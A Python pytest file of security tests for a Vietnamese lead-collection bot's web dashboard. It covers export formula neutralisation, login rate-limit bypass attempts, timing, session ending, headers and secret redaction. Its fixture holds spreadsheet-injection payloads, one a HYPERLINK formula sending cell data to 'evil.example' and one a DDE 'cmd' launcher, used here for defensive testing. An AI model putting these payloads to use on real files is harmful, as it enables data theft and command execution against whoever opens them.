"""The dashboard under attack, over HTTP (httpx against the real app): spreadsheet formulas in exports,
the login limit and its ways around (username spellings, forwarded-for headers), timing, sessions that
end at logout or a password change, security headers, friendly error pages for bad paths and ids,
a repeated broadcast confirmation, and secrets that stay out of files, terminals and logs."""

from __future__ import annotations

import csv
import io
import logging
import os
import re
import stat
import subprocess
import sys
import threading
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from sqlmodel import select

from bot.secrets import session_key
from bot.services import Services, build_services
from bot.settings import SettingsError, load_settings
from bot.web import create_web_app
from handlers.types import Incoming
from knowledge.catalog import Catalog
from services.broadcasts import Audience, BroadcastService
from services.staff_directory import StaffDirectory
from storage.db import Database
from storage.models import Lead, MessageLog, OutboxMessage, User, saved_id
from storage.passwords import hash_password
from storage.repositories import Repos
from storage.search_text import lead_search_text
from tests.bot.conftest import PASSWORD
from tests.support.checks import one

ROOT = Path(__file__).resolve().parents[2]


async def login(
    client: httpx.AsyncClient, username: str = "canbo1", password: str = PASSWORD, **headers: str
) -> httpx.Response:
    """As a browser does: open the login form (it carries the session's CSRF token), then post it."""
    form = (await client.get("/", headers=headers)).text
    found = re.search(r'name="csrf_token" value="([^"]+)"', form)
    data = {"username": username, "password": password, "csrf_token": found.group(1) if found else ""}
    return await client.post("/login", data=data, headers=headers)


def seed_lead(database: Database, **fields: str) -> None:
    now = datetime.now(UTC)
    with database.session() as s:
        user = Repos(s).users.get_or_create("telegram", "555", "Kẻ gian")
        values: dict[str, Any] = {
            "full_name": "Nguyễn Văn A",
            "phone": "0912345678",
            "establishment_name": "Cơ sở",
        } | fields
        lead = Lead(
            submission_key="k1",
            user_id=saved_id(user),
            channel="telegram",
            consent_at=now,
            **values,
            search_text=lead_search_text(
                "", values["full_name"], values["establishment_name"], None, values["phone"]
            ),
        )
        Repos(s).leads.add(lead, year=2026)


FORMULAS = {
    "sector": '=HYPERLINK("http://evil.example/?d="&E5,"Bấm xem")',
    "establishment_name": "+cmd|' /C calc'!A0",
    "full_name": "@SUM(1+1)",
    "plan": "-2+3",
    "commune": "\t=1+1",
}


async def test_exports_never_carry_a_live_formula(client: httpx.AsyncClient, database: Database) -> None:
    seed_lead(database, **FORMULAS)
    await login(client)
    csv_text = (await client.get("/export.csv")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(csv_text)))
    cells = [cell for cell in rows[1] if cell]
    for value in FORMULAS.values():
        assert "'" + value in cells, value  # shown as typed, after a quote: never run
    assert not any(cell[0] in "=+-@\t\r" for cell in cells)
    workbook = load_workbook(io.BytesIO((await client.get("/export.xlsx")).content))
    sheet = one(workbook.active)
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in values if cell.data_type == "f"]  # no formula cells at all
    texts = {cell.value for cell in values if isinstance(cell.value, str)}
    for value in FORMULAS.values():
        assert "'" + value in texts


async def test_one_username_for_lookup_and_the_limit(client: httpx.AsyncClient) -> None:
    assert (await login(client, " CanBo1 ")).status_code == 303  # the same account, however it is typed
    client.cookies.clear()  # a fresh browser
    for _ in range(5):
        assert (await login(client, password="wrong-password")).status_code == 401
    for spelling in (" canbo1", "canbo1\t", "\u00a0canbo1", "CANBO1", "ｃａｎｂｏ１"):
        response = await login(client, spelling)  # the right password
        assert response.status_code == 429, spelling  # still locked: no spelling gets around it


async def test_forwarded_for_counts_only_from_a_trusted_proxy(services: Services, database_url: str) -> None:
    app = create_web_app(services)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as http:
        for i in range(5):  # five different users, each from a "different" forged address
            await login(http, f"nobody{i}", "x", **{"X-Forwarded-For": f"10.0.0.{i}"})
        blocked = await login(http, **{"X-Forwarded-For": "10.9.9.9"})
        assert blocked.status_code == 429  # the header is ignored: all came from one address
    trusted = build_services(
        load_settings(
            _env_file=None,
            database_url=database_url,
            data_dir=services.settings.data_dir,
            trusted_proxies="127.0.0.1",
        )
    )
    try:
        with trusted.db.session() as s:
            s.execute(text("DELETE FROM login_failures"))
        app = create_web_app(trusted)
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as http:
            for i in range(5):
                await login(http, f"nobody{i}", "x", **{"X-Forwarded-For": "10.0.0.1"})
            other = await login(http, **{"X-Forwarded-For": "10.0.0.2"})
            assert other.status_code == 303  # behind our proxy, the real client address counts
    finally:
        trusted.close()


async def test_an_unknown_username_costs_a_password_hash(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    import storage.passwords as passwords

    calls: list[str] = []
    real = passwords.verify_password

    def counted(pw: str, stored: str) -> bool:
        calls.append(stored)
        return real(pw, stored)

    monkeypatch.setattr(passwords, "verify_password", counted)
    await login(client, "no-such-user", "whatever-password")
    await login(client, "canbo1", "wrong-password")
    assert len(calls) == 2  # the same work either way: timing does not reveal who exists


async def test_logout_and_a_password_change_end_the_session(
    client: httpx.AsyncClient, services: Services
) -> None:
    await login(client)
    saved = dict(client.cookies)
    page = (await client.get("/")).text
    csrf = one(re.search(r'name="csrf_token" value="([^"]+)"', page)).group(1)
    await client.post("/logout", data={"csrf_token": csrf})
    client.cookies.clear()
    client.cookies.update(saved)  # the cookie someone copied before the logout
    assert 'name="password"' in (await client.get("/")).text  # the login form: the session is over
    await login(client)
    with services.db.session() as s:
        Repos(s).staff.upsert("canbo1", hash_password("mat-khau-moi-hoan-toan"), None)
    assert 'name="password"' in (await client.get("/")).text


async def test_security_headers_on_every_response(client: httpx.AsyncClient) -> None:
    await login(client)
    for path in ("/", "/static/dashboard.css", "/no-such-page", "/healthz", "/export.csv", "/leads/1"):
        response = await client.get(path)
        headers = response.headers
        assert "default-src 'none'" in headers["content-security-policy"], path
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert headers["x-frame-options"] == "DENY" and headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"


async def test_bad_paths_and_ids_get_a_vietnamese_page(client: httpx.AsyncClient) -> None:
    await login(client)
    for path in (
        "/leads/99999999999999999999",
        "/leads/abc",
        "/leads/0",
        "/leads/-1",
        "/nope",
        "/broadcasts/1e9",
    ):
        response = await client.get(path)
        assert response.status_code == 404, path
        assert response.headers["content-type"].startswith("text/html")
        assert "Không tìm thấy" in response.text
    response = await client.post("/leads/abc/status", data={"to_status": "contacted"})
    assert response.status_code == 404 and "Không tìm thấy" in response.text


def test_a_repeated_confirmation_is_harmless(database: Database, catalog: Catalog) -> None:
    with database.session() as s:
        repos = Repos(s)
        for i in range(20):
            repos.users.get_or_create("telegram", str(900 + i), f"Hộ {i}")
        draft = BroadcastService(StaffDirectory()).create(repos, "Thông báo", Audience(), [], "test")
        draft_id = saved_id(draft)
    results, errors = [], []

    def confirm() -> None:
        try:
            with database.session() as s:
                repos = Repos(s)
                item = one(Repos(s).broadcasts.get(draft_id))
                results.append(BroadcastService(StaffDirectory()).confirm(repos, catalog.kb, item))
        except Exception as exc:  # pragma: no cover - the failure being tested for
            errors.append(exc)

    threads = [threading.Thread(target=confirm) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert sorted(results) == [0, 20]
    with database.session() as s:
        assert len(s.exec(select(OutboxMessage.id)).all()) == 20


def test_a_session_secret_is_made_once_and_kept_private(tmp_path: Path) -> None:
    settings = load_settings(_env_file=None, data_dir=tmp_path)
    key = session_key(settings)
    path = tmp_path / "session_secret"
    assert len(key) >= 32 and stat.S_IMODE(path.stat().st_mode) == 0o600
    assert session_key(settings) == key  # kept across restarts


@pytest.mark.parametrize(
    ("values", "problem"),
    [
        ({"session_secret": "a" * 16}, "SESSION_SECRET"),
        ({"session_secret": "a" * 40}, "SESSION_SECRET"),
        ({"session_secret": "changeme-changeme-changeme-changeme"}, "SESSION_SECRET"),
        ({"environment": "prod"}, "ENVIRONMENT"),
        ({"environment": "staging"}, "ENVIRONMENT"),
        ({"trusted_proxies": "not-an-address"}, "TRUSTED_PROXIES"),
    ],
)
def test_weak_or_unknown_settings_are_refused(values: dict, problem: str) -> None:
    with pytest.raises(SettingsError, match=problem):
        load_settings(_env_file=None, **values)


def test_environment_takes_any_case() -> None:
    assert load_settings(_env_file=None, environment="Production").secure_cookies


def test_the_database_file_is_private(tmp_path: Path) -> None:
    database = Database(f"sqlite:///{tmp_path / 'private' / 'kc.db'}")
    database.migrate()
    with database.session() as s:
        Repos(s).users.get_or_create("telegram", "1", "A")
    for name in ("kc.db", "kc.db-wal"):
        mode = stat.S_IMODE((tmp_path / "private" / name).stat().st_mode)
        assert mode == 0o600, name
    assert stat.S_IMODE((tmp_path / "private").stat().st_mode) == 0o700
    database.dispose()


def test_a_settings_error_never_prints_a_token(tmp_path: Path) -> None:
    token = "123456789:AAH-very-secret-token-value-xyz"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TELEGRAM_", "ZALO_"))} | {
        "TELEGRAM_BOT_TOKEN": token,
        "WEB_PORT": "not-a-port",
        "DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}",
    }
    out = subprocess.run(
        [sys.executable, "-m", "bot", "run"], capture_output=True, text=True, cwd=ROOT, env=env, timeout=60
    )
    assert out.returncode == 2
    assert "WEB_PORT" in out.stderr
    assert token not in out.stderr + out.stdout and "AAH-very" not in out.stderr + out.stdout


def test_logs_never_carry_a_token_or_database_values(
    caplog: pytest.LogCaptureFixture, database: Database
) -> None:
    from bot.secrets import RedactingFormatter

    formatter = RedactingFormatter("%(message)s", ["s3cret-webhook-value"])
    record = logging.LogRecord(
        "x",
        logging.ERROR,
        "",
        0,
        "calling https://api/bot123456789:AAHabcdefghijklmnopqrstuv/x with s3cret-webhook-value",
        (),
        None,
    )
    line = formatter.format(record)
    assert "AAHabcdef" not in line and "s3cret-webhook-value" not in line
    with pytest.raises(Exception) as failure, database.session() as s:  # a unique key broken on purpose
        s.add(User(channel="telegram", external_id="dup", display_name="Bí mật 0912345678"))
        s.add(User(channel="telegram", external_id="dup", display_name="Bí mật 0912345678"))
        s.flush()
    assert "0912345678" not in str(failure.value)  # SQLAlchemy hides bound values


def test_control_characters_never_reach_the_database(database: Database, catalog: Catalog) -> None:
    from handlers.dialogue import Dialogue

    dialogue = Dialogue(database, catalog)
    dialogue.handle(Incoming.text_message("telegram", "77", "máy\x00 sấy\u202e lúa", "Tên\x00 lạ"))
    with database.session() as s:
        logged = s.exec(select(MessageLog.text).where(MessageLog.direction == "in")).all()
        user = one(Repos(s).users.find("telegram", "77"))
    assert logged == ["máy sấy lúa"] and user.display_name == "Tên lạ"
    with database.session() as s:  # raw updates with a NUL are stored too (PostgreSQL json keeps \u0000)
        assert Repos(s).inbox.add("telegram", "u1", "77", {"message": {"text": "a\x00b"}})
